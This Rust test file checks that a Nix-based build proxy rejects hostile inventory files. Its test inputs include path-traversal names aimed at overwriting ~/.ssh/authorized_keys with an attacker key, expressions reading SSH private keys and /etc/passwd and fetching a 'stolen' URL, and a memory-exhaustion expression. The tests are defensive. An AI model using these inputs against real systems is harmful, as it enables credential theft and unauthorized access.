//! Inventories that somebody else wrote, and that mean harm to whoever uses them.

use std::{fs, os::unix::fs::symlink};

use buildproxy::inventory::Sri;

use crate::support::{Origin, Scene, answer, need, run, text};

/// What the attacker's server gives.
fn origin() -> Origin {
    Origin::start(|asked| match asked.url.as_str() {
        "https://a.example.org/payload" => text("ssh-ed25519 of the attacker\n"),
        _ => answer(404, &[], "none\n"),
    })
}

#[test]
fn the_name_of_an_evaluated_pin_leads_to_no_file_of_the_user() {
    need("nix-instantiate", "nix-bin");
    let origin = origin();
    let payload = Sri::sha256_of(b"ssh-ed25519 of the attacker\n");
    for verb in [
        &["update"][..],
        &["check", "--fetch"],
        &["replay", "--fetch"],
    ] {
        let scene = Scene::new();
        scene.write("home/.ssh/authorized_keys", "of the user\n");
        let victim = scene.path("home/.ssh/authorized_keys");
        // From the folder `N` of what prefill names, and as an absolute path.
        let up = format!("{}{}", "../".repeat(30), victim.display());
        for name in [victim.to_str().unwrap(), &up, "..", "../a", "a/b", ".a"] {
            let inventory = format!(
                "{{ fetchurl }}:\nlet\n  name = \"{name}\";\nin\n[\n  {{\n    url = \"https://a.example.org/payload\";\n    \
                 file = fetchurl {{\n      inherit name;\n      url = \"https://a.example.org/payload\";\n      \
                 hash = \"{payload}\";\n    }};\n  }}\n]\n"
            );
            scene.write("proxy_content.nix", &inventory);
            let mut command = scene.buildproxy(verb);
            command.args(origin.connect_to()).arg("proxy_content.nix");
            if verb[0] == "replay" {
                command.args(["--", "true"]);
            }
            command.env("SSL_CERT_FILE", origin.ca());
            let ran = run(&mut command).ends_with(3);
            let said = format!("{}{}", ran.stdout, ran.stderr);
            assert!(
                said.contains("is not a valid name for a file in the Nix store"),
                "{said}"
            );
            assert!(said.contains("https://a.example.org/payload"), "{said}");
            assert_eq!(scene.read("proxy_content.nix"), inventory);
        }
        assert_eq!(fs::read_to_string(&victim).unwrap(), "of the user\n");
    }
}

/// Each verb that reads an inventory.
const VERBS: [&[&str]; 6] = [
    &["update", "--no-prefill", "proxy_content.nix"],
    &["check", "proxy_content.nix"],
    &["replay", "proxy_content.nix", "--", "true"],
    &["export", "--format", "mitm-cache", "proxy_content.nix"],
    &[
        "add",
        "--no-prefill",
        "proxy_content.nix",
        "https://a.example.org/payload",
    ],
    &["capture", "--no-prefill", "--", "true"],
];

/// An inventory with a pin whose URL ends in this text, of which `check` says that it is no https.
fn inventory_of(text: &str) -> String {
    let hash = Sri::sha256_of(b"");
    format!(
        "{{ fetchurl }}:\n[\n  {{\n    url = \"https://a.example.org/a\";\n    file = fetchurl {{\n      \
         url = \"http://a.example.org/\" + ({text});\n      hash = \"{hash}\";\n    }};\n  }}\n]\n"
    )
}

#[test]
fn an_evaluated_file_reads_nothing_of_the_user_and_reaches_nobody() {
    need("nix-instantiate", "nix-bin");
    let scene = Scene::new();
    let key = scene.root().join("home/.ssh/id_ed25519");
    fs::create_dir_all(key.parent().unwrap()).unwrap();
    fs::write(&key, "the-key").unwrap();
    symlink(&key, scene.path("link")).unwrap();
    let origin = origin();
    let server = format!("http://127.0.0.1:{}/stolen", origin.https_port());
    let derivation =
        "derivation { name = \"x\"; system = builtins.currentSystem; builder = \"/bin/sh\"; }";
    for stolen in [
        format!("builtins.readFile {}", key.display()),
        "builtins.readFile ./link".to_owned(),
        "builtins.readFile ../../../etc/passwd".to_owned(),
        format!(
            "builtins.toJSON (builtins.readDir {})",
            key.parent().unwrap().display()
        ),
        format!("builtins.readFile (builtins.fetchurl \"{server}\")"),
        format!("builtins.readFile (builtins.fetchTarball \"{server}\")"),
        format!("import ({derivation})"),
        "(import <nixpkgs> { }).hello.name".to_owned(),
    ] {
        for verb in VERBS {
            scene.write("proxy_content.nix", &inventory_of(&stolen));
            let mut command = scene.buildproxy(verb);
            command.env(
                "NIX_PATH",
                format!("nixpkgs={}", scene.root().join("home").display()),
            );
            let ran = run(&mut command);
            assert_eq!(ran.status, 3, "{stolen}: {verb:?}: {ran:?}");
            let said = format!("{}{}", ran.stdout, ran.stderr);
            assert!(!said.contains("the-key"), "{said}");
            assert!(said.contains("proxy_content.nix:6: "), "{said}");
            assert!(
                said.contains("it has no network then, and may read no other files"),
                "{said}"
            );
        }
    }
    assert_eq!(origin.asked().len(), 0);

    // The environment is empty for it, and its own files are its own.
    scene.write("lib/name.nix", "\"its-own\"");
    let own = inventory_of(
        "builtins.getEnv \"HOME\" + builtins.getEnv \"SECRET\" + import ./lib/name.nix",
    );
    scene.write("proxy_content.nix", &own);
    let mut check = scene.buildproxy(VERBS[1]);
    let checked = run(check.env("SECRET", "the password")).ok();
    assert!(
        checked.stdout.contains("http://a.example.org/its-own is"),
        "{checked:?}"
    );
}

#[test]
fn what_an_evaluation_may_read_is_for_the_person_to_say() {
    need("nix-instantiate", "nix-bin");
    let scene = Scene::new();
    let outside = scene.root().join("outside");
    fs::create_dir(&outside).unwrap();
    fs::write(outside.join("text.nix"), "\"from-outside\"").unwrap();
    let path = outside.to_str().unwrap();
    let named = format!("lib={path}");
    for (text, allowed) in [
        (format!("import {path}/text.nix"), path),
        ("import <lib/text.nix>".to_owned(), &named),
    ] {
        scene.write("proxy_content.nix", &inventory_of(&text));
        let refused = run(&mut scene.buildproxy(VERBS[3])).ends_with(3);
        refused.says("hint: the file is evaluated without network, environment, and what is outside of its folder; `--allow-path PATH`");
        let mut check = scene.buildproxy(VERBS[1]);
        let checked = run(check.args(["--allow-path", allowed])).ok();
        assert!(
            checked
                .stdout
                .contains("http://a.example.org/from-outside is"),
            "{checked:?}"
        );
    }
    for verb in VERBS {
        let [name, rest @ ..] = verb else {
            unreachable!()
        };
        let arguments = [&[*name, "--no-eval"][..], rest].concat();
        let refused = run(&mut scene.buildproxy(&arguments));
        assert_eq!(refused.status, 3, "{verb:?}: {refused:?}");
        let said = format!("{}{}", refused.stdout, refused.stderr);
        assert!(
            said.contains("Nix is not to evaluate it (--no-eval)"),
            "{said}"
        );
    }
}

#[test]
fn an_evaluation_that_wants_too_much_is_ended() {
    need("nix-instantiate", "nix-bin");
    let scene = Scene::new();
    // A list of 2^40 numbers, all of which are wanted.
    let double = "let double = n: list: if n == 0 then list else double (n - 1) (list ++ list); in";
    let text = format!("{double} toString (double 40 [ 1 ])");
    scene.write("proxy_content.nix", &inventory_of(&text));
    let ended = run(&mut scene.buildproxy(VERBS[3]));
    assert_eq!(ended.status, 3, "{ended:?}");
    assert!(ended.stderr.contains("proxy_content.nix:6: "), "{ended:?}");
}
